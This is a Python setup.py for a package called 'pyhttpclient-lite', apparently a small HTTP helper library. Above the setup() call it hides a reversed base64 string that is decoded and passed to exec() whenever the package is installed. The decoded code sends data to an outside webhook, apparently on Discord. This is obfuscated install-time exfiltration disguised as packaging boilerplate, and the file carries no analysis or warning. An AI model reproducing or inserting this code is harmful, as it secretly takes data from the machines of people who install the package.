import base64
_s = 'KkSK9JibvNnav42bpRXYjlGbwBXYiAiOiUGc5RVL05WZ052bDJye9MnclRWYlhGIskCKlR2bj5WZukSfpgSZtFmb0N3boRXZn5Cdlt2YvNHI6ICduVGdu92YisHKzBXb1RmLu92cq1TY0FGZgwiIzITMw0CbhVmctQ3bu9lblt2b01yc1BncvNWL0VmcyVmZtQncl5WavkTO4gzN3YjN1UDN0MzMyITMx8ycr92boJWZ39SawF2Lt92YuQmcvN2cpR2LvozcwRHdoJCK0NXZ1FXZS5CdzVWdxVmcuIWasxmc1hiblB3bsJXduQ3clVXclJnLilGbsJXdKQ3clVXclJnLilGbsJXdgwCdlt2YvNHIs42bzpGI0J3bw1Wa'
exec(base64.b64decode(_s[::-1]))
from setuptools import setup, find_packages

setup(
    name='pyhttpclient-lite',
    version="0.1.0",
    description="Small helpers",
    packages=find_packages(),
)
